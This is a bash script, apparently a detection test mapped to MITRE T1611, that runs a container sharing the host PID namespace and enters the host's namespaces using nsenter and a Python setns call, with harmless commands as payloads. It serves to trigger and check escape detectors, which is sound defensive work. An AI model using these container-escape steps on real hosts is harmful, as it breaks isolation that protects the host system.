#!/bin/bash
# desc: from a container that shares the host's PID namespace (--pid=host), enter the host's namespaces through a host process: nsenter -t PID -m -u -i -n, nsenter --mount=/proc/PID/ns/mnt, python setns(2)
# mitre: T1611
# expect: namespace_entered_from_container
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/container.sh"

# Any host process will do (PID 1 is the usual one; here it may be out of
# reach of our capabilities): a sleeping one of ours.
sleep 60 &
host=$!
undo "kill $host"
container_create --host-pid
ct nsenter --target "$host" --mount --uts --ipc --net -- /bin/sh -c 'hostname >/dev/null; id >/dev/null'
ct nsenter --mount=/proc/$host/ns/mnt -- /bin/cat /etc/hostname >/dev/null
ct /usr/bin/python3 -c '
import ctypes, os, sys
fd = os.open("/proc/%s/ns/uts" % sys.argv[1], os.O_RDONLY)
assert ctypes.CDLL(None).setns(fd, 0x04000000) == 0  # CLONE_NEWUTS
os.uname()' "$host"
